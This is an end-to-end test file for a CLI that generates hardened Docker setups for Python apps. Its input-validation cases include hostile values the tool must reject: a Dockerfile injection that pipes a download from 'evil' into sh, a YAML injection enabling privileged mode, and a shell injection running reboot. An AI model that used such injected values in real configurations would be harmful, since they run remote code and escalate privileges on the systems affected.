/**
 * End-to-end: spawn the built CLI (`npm run build` first) as a user would.
 */
import { describe, expect, it, beforeAll } from 'vitest';
import { execa } from 'execa';
import { mkdtempSync, readFileSync, writeFileSync, statSync, existsSync, readdirSync, mkdirSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

const BIN = path.resolve('bin/pyconfine.js');
const tmp = (): string => mkdtempSync(path.join(tmpdir(), 'pyconfine-e2e-'));

async function cli(args: string[], opts: { input?: string; env?: Record<string, string>; cwd?: string } = {}) {
  return execa('node', [BIN, ...args], {
    reject: false,
    stdin: opts.input === undefined ? 'ignore' : undefined,
    input: opts.input,
    env: { CI: '', ...opts.env },
    cwd: opts.cwd,
    timeout: 30_000,
  });
}

function listFiles(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)))
    .sort();
}

beforeAll(() => {
  expect(existsSync('dist/cli.js'), 'run `npm run build` before the e2e tests').toBe(true);
});

describe('help and version', () => {
  it('prints help, init help and the version', async () => {
    const help = await cli(['--help']);
    expect(help.exitCode).toBe(0);
    expect(help.stdout).toContain('pyconfine init');
    const initHelp = await cli(['init', '--help']);
    expect(initHelp.exitCode).toBe(0);
    for (const flag of ['--dir', '--yes', '--dry-run', '--force', '--json', '--preset', '--framework', '--volume', '--egress', '--uid', '--health-path', '--base-image']) {
      expect(initHelp.stdout).toContain(flag);
    }
    const version = await cli(['--version']);
    expect(version.stdout).toMatch(/^\d+\.\d+\.\d+/);
  });
});

describe('init --yes', () => {
  it('writes a hardened Flask setup, then reports everything unchanged on a re-run', async () => {
    const dir = tmp();
    const first = await cli(['init', '--yes', '--framework', 'flask', '--dir', dir, '--json']);
    expect(first.stderr).toBe('');
    expect(first.exitCode).toBe(0);
    const result = JSON.parse(first.stdout) as { files: { path: string; action: string }[] };
    expect(result.files.every((f) => f.action === 'create')).toBe(true);
    expect(result.files.map((f) => f.path)).toEqual(expect.arrayContaining(['Dockerfile', '.dockerignore', 'compose.yaml', 'SECURITY-RUNTIME.md', '.pyconfine.json', 'app.py', 'requirements.txt']));

    const df = readFileSync(path.join(dir, 'Dockerfile'), 'utf8');
    expect(df.match(/^FROM /gm)!.length).toBeGreaterThanOrEqual(2);
    const users = df.match(/^USER (.+)$/gm)!;
    expect(users.at(-1)).toMatch(/^USER [1-9][0-9]*:[1-9][0-9]*$/);
    expect(df).toMatch(/^CMD \[".*"\]$/m);

    const mtimes = listFiles(dir).map((f) => statSync(path.join(dir, f)).mtimeMs);
    const again = await cli(['init', '--yes', '--dir', dir, '--json']);
    expect(again.exitCode).toBe(0);
    const second = JSON.parse(again.stdout) as { files: { path: string; action: string }[] };
    expect(second.files.length).toBeGreaterThan(5);
    expect(second.files.filter((f) => f.action !== 'unchanged')).toEqual([]);
    expect(listFiles(dir).map((f) => statSync(path.join(dir, f)).mtimeMs)).toEqual(mtimes);
  });

  it('refuses to overwrite an edited file and names it; --force overwrites', async () => {
    const dir = tmp();
    expect((await cli(['init', '--yes', '--framework', 'django', '--dir', dir])).exitCode).toBe(0);
    const df = path.join(dir, 'Dockerfile');
    writeFileSync(df, readFileSync(df, 'utf8') + '\n# my change\n');
    const refused = await cli(['init', '--yes', '--dir', dir, '--port', '8080']);
    expect(refused.exitCode).toBe(1);
    expect(refused.stderr.trim().split('\n')).toHaveLength(1);
    expect(refused.stderr).toContain('Dockerfile was changed');
    expect(readFileSync(df, 'utf8')).toContain('# my change');
    // Nothing else was written either: compose still has the old port.
    expect(readFileSync(path.join(dir, 'compose.yaml'), 'utf8')).toContain(':8000:8000');

    const forced = await cli(['init', '--yes', '--dir', dir, '--port', '8080', '--force']);
    expect(forced.exitCode).toBe(0);
    expect(readFileSync(df, 'utf8')).not.toContain('# my change');
    expect(readFileSync(df, 'utf8')).toContain('EXPOSE 8080');
  });

  it('updates files it wrote when an answer changes, without --force', async () => {
    const dir = tmp();
    await cli(['init', '--yes', '--framework', 'fastapi', '--dir', dir]);
    const res = await cli(['init', '--yes', '--dir', dir, '--workers', '4', '--json']);
    expect(res.exitCode).toBe(0);
    const actions = Object.fromEntries((JSON.parse(res.stdout).files as { path: string; action: string }[]).map((f) => [f.path, f.action]));
    expect(actions['Dockerfile']).toBe('update');
    expect(actions['main.py']).toBeUndefined();
    expect(readFileSync(path.join(dir, 'Dockerfile'), 'utf8')).toContain('"--workers","4"');
  });

  it('never touches an existing app and does not scaffold one', async () => {
    const dir = tmp();
    writeFileSync(path.join(dir, 'requirements.txt'), 'flask==3.0.0\ngunicorn\n');
    writeFileSync(path.join(dir, 'wsgi.py'), 'from flask import Flask\napp = Flask(__name__)\n');
    const res = await cli(['init', '--yes', '--dir', dir, '--app-module', 'wsgi:app', '--json']);
    expect(res.stderr).toBe('');
    expect(res.exitCode).toBe(0);
    const paths = (JSON.parse(res.stdout).files as { path: string }[]).map((f) => f.path);
    expect(paths).not.toContain('app.py');
    expect(paths).not.toContain('requirements.txt');
    expect(readFileSync(path.join(dir, 'requirements.txt'), 'utf8')).toBe('flask==3.0.0\ngunicorn\n');
    expect(readFileSync(path.join(dir, 'Dockerfile'), 'utf8')).toContain('"wsgi:app"');
  });
});

describe('--dry-run', () => {
  it('prints the plan and unified diffs and writes nothing', async () => {
    const dir = path.join(tmp(), 'new-service');
    const res = await cli(['init', '--yes', '--framework', 'flask', '--dir', dir, '--dry-run']);
    expect(res.exitCode).toBe(0);
    expect(res.stdout).toContain('Plan (dry run, nothing written)');
    expect(res.stdout).toMatch(/^\+\+\+ b\/Dockerfile/m);
    expect(res.stdout).toMatch(/^\+USER 10001:10001$/m);
    expect(existsSync(dir)).toBe(false);
  });

  it('shows the diff of a changed answer against the disk', async () => {
    const dir = tmp();
    await cli(['init', '--yes', '--framework', 'flask', '--dir', dir]);
    const before = readFileSync(path.join(dir, 'Dockerfile'), 'utf8');
    const res = await cli(['init', '--yes', '--dir', dir, '--uid', '20001', '--dry-run']);
    expect(res.stdout).toMatch(/^-USER 10001:10001$/m);
    expect(res.stdout).toMatch(/^\+USER 20001:10001$/m);
    expect(readFileSync(path.join(dir, 'Dockerfile'), 'utf8')).toBe(before);
  });
});

describe('no terminal', () => {
  it('fails fast with stdin at /dev/null and names the missing flags', async () => {
    const dir = tmp();
    const started = Date.now();
    const res = await execa('node', [BIN, 'init', '--dir', dir], { reject: false, stdin: 'ignore', env: { CI: '' }, timeout: 20_000 });
    expect(Date.now() - started).toBeLessThan(15_000);
    expect(res.exitCode).toBe(2);
    expect(res.stderr.trim()).toBe('pyconfine: missing answers: --framework, --name — pass --framework, --name (and --yes to accept defaults for the rest), or run in a terminal to be asked');
    expect(readdirSync(dir)).toEqual([]);
  });
});

describe('bad input: one clear line, non-zero exit, no stack trace, nothing written', () => {
  const cases: [string, string[]][] = [
    ['port 0', ['--port', '0']],
    ['port 65536', ['--port', '65536']],
    ['port abc', ['--port', 'abc']],
    ['privileged port', ['--port', '443']],
    ['relative volume', ['--volume', 'data']],
    ['volume with ..', ['--volume', '/data/../etc']],
    ['volume /', ['--volume', '/']],
    ['volume /proc', ['--volume', '/proc']],
    ['volume /sys', ['--volume', '/sys/fs']],
    ['volume newline', ['--volume', '/data\nUSER 0']],
    ['volume quote', ['--volume', "/data'"]],
    ['volume over app', ['--volume', '/app']],
    ['bad service name', ['--name', '-web-']],
    ['uid 0', ['--uid', '0']],
    ['uid 10000', ['--uid', '10000']],
    ['unknown framework', ['--framework', 'pyramid']],
    ['dockerfile injection', ['--health-path', '/h\nRUN curl evil|sh']],
    ['yaml injection', ['--name', 'web\nprivileged: true']],
    ['shell injection', ['--egress', 'dns-tcp', '--egress-check', 'example.com;reboot']],
    ['cap sys_admin', ['--cap-add', 'SYS_ADMIN']],
    ['unknown arch', ['--arch', 's390x']],
    ['db url without egress', ['--database-url', 'postgres://db:5432/x']],
  ];
  for (const [label, extra] of cases) {
    it(label, async () => {
      const dir = tmp();
      const res = await cli(['init', '--yes', '--framework', 'flask', '--dir', dir, ...extra]);
      expect(res.exitCode).not.toBe(0);
      const lines = res.stderr.trim().split('\n');
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatch(/^pyconfine: .+ — .+/);
      expect(res.stderr).not.toMatch(/\n\s+at /);
      expect(readdirSync(dir)).toEqual([]);
    });
  }

  it('a target that is a file', async () => {
    const file = path.join(tmp(), 'f');
    writeFileSync(file, 'x');
    const res = await cli(['init', '--yes', '--framework', 'flask', '--dir', file]);
    expect(res.exitCode).toBe(2);
    expect(res.stderr).toMatch(/is a file, not a folder/);
  });

  it('an unwritable target', async () => {
    const dir = tmp();
    const locked = path.join(dir, 'locked');
    mkdirSync(locked);
    chmodSync(locked, 0o555);
    chmodSync(dir, 0o755);
    // Root ignores permission bits, so run as an unprivileged user when we are root.
    const asUser = process.getuid?.() === 0 ? ['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups', 'node'] : ['node'];
    const res = await execa(asUser[0]!, [...asUser.slice(1), BIN, 'init', '--yes', '--framework', 'flask', '--dir', locked], { reject: false, stdin: 'ignore', env: { CI: '' } });
    expect(res.exitCode).toBe(2);
    expect(res.stderr.trim()).toMatch(/^pyconfine: target folder .* is not writable — /);
    expect(readdirSync(locked)).toEqual([]);
  });
});
